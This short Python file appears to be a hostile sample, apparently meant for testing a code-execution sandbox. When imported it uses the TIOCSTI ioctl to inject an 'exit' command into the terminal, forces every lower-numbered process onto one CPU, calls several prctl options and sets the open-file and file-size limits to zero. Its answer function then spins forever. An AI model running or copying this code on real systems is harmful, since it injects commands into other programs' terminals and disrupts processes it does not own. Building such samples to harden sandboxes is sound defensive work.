# Leaves itself nothing, gives up its time, and asks the kernel for what it may not.
import ctypes
import os
import resource
import time

libc = ctypes.CDLL(None)
for option in (1, 4, 22, 36, 38, 15):
    libc.prctl(option, 0, 0, 0, 0)
for place in (0, 1, 2):
    for character in b"exit\n":
        libc.ioctl(place, 0x5412, ctypes.byref(ctypes.c_char(character)))  # TIOCSTI
for number in range(1, os.getpid()):
    try:
        os.sched_setaffinity(number, {0})
    except OSError:
        pass
resource.setrlimit(resource.RLIMIT_NOFILE, (0, 0))
resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))


def answer(n):
    while True:
        time.sleep(0.001)
